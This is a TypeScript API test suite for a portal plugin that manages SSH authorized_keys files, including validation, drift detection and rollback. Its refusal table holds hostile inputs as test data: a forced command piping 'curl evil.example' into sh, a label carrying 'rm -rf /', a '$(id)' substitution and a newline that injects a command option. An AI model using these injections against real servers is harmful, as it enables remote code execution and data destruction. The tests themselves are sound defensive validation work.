/**
 * The SSH keys section through the API: a real portal over its own database with the demo data and
 * the plugin's fixtures, the `local` gateway writing into a sandbox per server and checking the files
 * with the machine's `ssh-keygen -l` where it is installed.
 */
import { describeAccessMatrix, hasProgram, startPluginPortal, type PluginPortal, type SeededCluster, type TestClient } from '@portal/plugin-sdk/testing';
import type { Operations } from '../generated/operations.ts';
import { testFingerprints, testKeys } from './testKeys.ts';

const hasSshKeygen = hasProgram('ssh-keygen');

let ssh: PluginPortal<Operations>;
let admin: TestClient;
let shop: SeededCluster;

const base = (clusterId?: number, serverId?: number) => ssh.base(clusterId, serverId);
const keys = (sub = '') => `${base()}/ssh/keys${sub}`;
const deployFile = '/home/deploy/.ssh/authorized_keys';
const developerFile = '/home/developer/.ssh/authorized_keys';
const good = { user: 'developer' as const, label: 'Jonas laptop', publicKey: testKeys.ecdsab384 };
const list = async () => (await ssh.api.call('listSshKeys')).body.data;

/** This plugin alone (another plugin's state must not matter here) on web01 of the shop cluster, with its demo keys. */
beforeAll(async () => {
  ssh = await startPluginPortal<Operations>(() => import('../plugin.ts'), { cluster: '20011', server: (s) => s.role === 'web' && s.name.startsWith('web01') });
  ({ admin, cluster: shop } = ssh);
});
afterAll(() => ssh?.stop());

describe('R2.031 ssh keys', () => {
  it('R2.031 lists the demo keys per user with type, bits and SHA256 fingerprint', async () => {
    const r = await admin.get(keys());
    expect(r.status).toBe(200);
    expect(r.body.users).toEqual(['deploy', 'developer']);
    const anna = r.body.data.find((k: { label: string }) => k.label === 'Anna Berger (Laptop)');
    expect(anna).toMatchObject({ user: 'deploy', type: 'ssh-ed25519', bits: 256, fingerprint: 'SHA256:gu+hiQ5Qxb9foxUku3nlKptnTrHPF+3c3ZTFsDJSxt0' });
    expect(anna.publicKey).toMatch(/^ssh-ed25519 AAAA\S+$/);
    expect(r.body.data.find((k: { type: string }) => k.type === 'ssh-rsa')).toMatchObject({ bits: 4096, fingerprint: 'SHA256:SxjPRzZUWKLBx4/7wr4pVZ8JkIvxNB0PqaO0JuwHbYc' });
  });

  it('R2.031 inspect reads a key without storing it: type, bits, fingerprint, a label from its comment', async () => {
    const before = (await list()).length;
    const r = await admin.request('POST', keys('/inspect'), { publicKey: testKeys.rsab3072 });
    expect(r.status).toBe(200);
    expect(r.body).toEqual({ type: 'ssh-rsa', bits: 3072, fingerprint: testFingerprints.rsab3072.fingerprint, suggestedLabel: 'test@rsab3072' });
    const bad = await admin.request('POST', keys('/inspect'), { publicKey: testKeys.rsab2048 });
    expect(bad.status).toBe(422);
    expect(bad.body.error.fields.publicKey).toEqual(['ssh:errors.rsa_too_short']);
    expect(await list()).toHaveLength(before);
  });

  it('R2.031 add: stored, authorized_keys written with the label as comment, checked with ssh-keygen -l, change logged', async () => {
    const job = await ssh.applied('POST', keys(), { ...good, publicKey: `${testKeys.ecdsab384.replace(/ \S+$/, '')} some-comment@host` });
    if (hasSshKeygen) {
      expect(job.validation).toMatchObject({ status: 'passed', tool: 'ssh-keygen' });
      expect(job.validation?.output).toContain(testFingerprints.ecdsab384.fingerprint);
    } else expect(job.validation).toMatchObject({ status: 'skipped', reason: 'tool_missing', tool: 'ssh-keygen' });
    const content = await ssh.file(developerFile);
    expect(content).toContain(`${testKeys.ecdsab384.split(' ').slice(0, 2).join(' ')} Jonas laptop\n`);
    expect(content).not.toContain('some-comment');
    const added = (await list()).find((k) => k.label === 'Jonas laptop');
    expect(added).toMatchObject({ user: 'developer', type: 'ecdsa-sha2-nistp384', bits: 384, fingerprint: testFingerprints.ecdsab384.fingerprint });
    const change = (await ssh.changes()).data[0];
    expect(change).toMatchObject({ status: 'applied', summary: { key: 'ssh:changes.created', values: { user: 'developer', label: 'Jonas laptop', fingerprint: testFingerprints.ecdsab384.fingerprint } } });
    expect((await admin.get(`${base()}/ssh/files`)).body.applied).toBe(true);
  });

  it.each([
    ['R2.031 a malformed key', { publicKey: 'ssh-ed25519 AAAAnotakey' }, 'publicKey', 'ssh:errors.malformed'],
    ['R2.031 RSA with 2048 bits', { publicKey: testKeys.rsab2048 }, 'publicKey', 'ssh:errors.rsa_too_short'],
    ['a DSA key', { publicKey: testKeys.dsa }, 'publicKey', 'ssh:errors.type_not_allowed'],
    ['a security key', { publicKey: testKeys.sk }, 'publicKey', 'ssh:errors.type_not_allowed'],
    ['a private key', { publicKey: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE=\n-----END OPENSSH PRIVATE KEY-----' }, 'publicKey', 'ssh:errors.private_key'],
    ['two keys in one', { publicKey: `${testKeys.ed25519}\n${testKeys.ecdsab256}` }, 'publicKey', 'ssh:errors.multiple_lines'],
    ['a forced command', { publicKey: `command="curl evil.example | sh" ${testKeys.ed25519}` }, 'publicKey', 'ssh:errors.options_not_allowed'],
    ['a newline in the label', { label: 'x\ncommand="id" ssh-ed25519 AAAA' }, 'label', 'validation.pattern'],
    ['a semicolon in the label', { label: 'a; rm -rf /' }, 'label', 'validation.pattern'],
    ['a dollar in the label', { label: '$(id)' }, 'label', 'validation.pattern'],
    ['braces in the label', { label: '{x}' }, 'label', 'validation.pattern'],
    ['a blank label', { label: '   ' }, 'label', 'ssh:errors.label_required'],
    ['root as user', { user: 'root' }, 'user', 'validation.enum'],
    ['www-data as user', { user: 'www-data' }, 'user', 'validation.enum'],
    ['an option as a property', { options: 'no-pty' }, 'options', 'validation.additionalProperties'],
  ])('refuses %s with 422 on the field: nothing stored, nothing applied', async (_what, patch, field, key) => {
    const count = (await list()).length;
    const changes = (await ssh.changes()).total;
    const before = await ssh.file(deployFile);
    const r = await admin.request('POST', keys(), { ...good, user: 'deploy', publicKey: testKeys.ed25519, ...patch });
    expect(r.status).toBe(422);
    expect(r.body.error.fields[field]).toContain(key);
    expect(await list()).toHaveLength(count);
    expect((await ssh.changes()).total).toBe(changes);
    expect(await ssh.file(deployFile)).toBe(before);
  });

  it('R2.031 refuses a duplicate (the same key material for the same user, whatever its comment), allows it for another user', async () => {
    await ssh.applied('POST', keys(), { user: 'deploy', label: 'Shared key', publicKey: testKeys.ed25519 });
    const again = await admin.request('POST', keys(), { user: 'deploy', label: 'Again', publicKey: testKeys.ed25519.replace('test@ed25519', 'other comment') });
    expect(again.status).toBe(422);
    expect(again.body.error.fields.publicKey).toEqual(['ssh:errors.duplicate']);
    await ssh.applied('POST', keys(), { user: 'developer', label: 'Shared key', publicKey: testKeys.ed25519 });
    expect((await list()).filter((k) => k.fingerprint === testFingerprints.ed25519.fingerprint).map((k) => k.user).sort()).toEqual(['deploy', 'developer']);
  });

  it('rename: the label (the comment in the file) changes; a bad label is 422', async () => {
    const key = (await list()).find((k) => k.label === 'Shared key' && k.user === 'developer')!;
    const bad = await admin.request('PATCH', keys(`/${key.id}`), { label: 'x;y' });
    expect(bad.status).toBe(422);
    await ssh.applied('PATCH', keys(`/${key.id}`), { label: 'Shared key (Jonas)' });
    expect(await ssh.file(developerFile)).toContain(' Shared key (Jonas)\n');
    expect((await list()).find((k) => k.id === key.id)!.label).toBe('Shared key (Jonas)');
  });

  it('delete the last keys of a user: the file goes away; roll back brings key and file back', async () => {
    const developerKeys = (await list()).filter((k) => k.user === 'developer');
    const withKeys = await ssh.file(developerFile);
    for (const k of developerKeys.slice(0, -1)) await ssh.applied('DELETE', keys(`/${k.id}`));
    const last = developerKeys[developerKeys.length - 1];
    const beforeLast = await ssh.file(developerFile);
    await ssh.applied('DELETE', keys(`/${last.id}`));
    expect(await ssh.file(developerFile)).toBeNull();
    expect(await ssh.file(deployFile)).toContain('Anna Berger (Laptop)');
    expect((await ssh.changes()).data[0].summary).toMatchObject({ key: 'ssh:changes.deleted', values: { user: 'developer', label: last.label } });

    const rb = await admin.request('POST', `${base()}/managed/plugins/ssh/rollback`);
    expect(rb.status).toBe(202);
    expect((await ssh.waitForJob(rb.body.id)).status).toBe('succeeded');
    expect(await ssh.file(developerFile)).toBe(beforeLast);
    expect((await list()).find((k) => k.id === last.id)).toMatchObject({ label: last.label, fingerprint: last.fingerprint });
    expect(withKeys).toContain(last.label);
  });

  it('applySshKeys stops at a manual edit (drift, issue 24 §2) and shows it; overwriting writes the stored keys again', async () => {
    await ssh.portal.managed.gateway(ssh.server.id).writeFile({ path: deployFile, content: 'ssh-ed25519 AAAAC3Nza intruder\n' });
    const r = await admin.request('POST', `${base()}/ssh/apply`);
    const stopped = await ssh.waitForJob(r.body.id);
    expect(stopped).toMatchObject({ status: 'failed', validation: { output: 'job.drift' } });
    expect(stopped.drift!.files.find((f) => f.path === deployFile)!.diff).toContain('+ssh-ed25519 AAAAC3Nza intruder');
    expect(await ssh.file(deployFile)).toContain('intruder');
    await ssh.applied('POST', `${base()}/managed/plugins/ssh/drift/${stopped.id}/overwrite`);
    expect(await ssh.file(deployFile)).not.toContain('intruder');
    const files = (await admin.get(`${base()}/ssh/files`)).body;
    expect(files.applied).toBe(true);
    expect(files.files.map((f: { path: string }) => f.path)).toContain(deployFile);
  });

  it('a key of another server and an unknown id are 404 (a server without ssh: describeAccessMatrix)', async () => {
    const id = (await list())[0].id;
    const web02 = shop.servers.find((s) => s.name.startsWith('web02'))!.id;
    expect((await admin.request('DELETE', `${base(shop.id, web02)}/ssh/keys/${id}`)).status).toBe(404);
    expect((await admin.request('PATCH', keys('/999999'), { label: 'x' })).status).toBe(404);
  });
});

describeAccessMatrix(() => ssh, {
  createSshKey: { body: { ...good, publicKey: testKeys.ecdsab521 } },
  inspectSshKey: { body: { publicKey: testKeys.ecdsab521 } },
  updateSshKey: { body: { label: 'x' } },
});
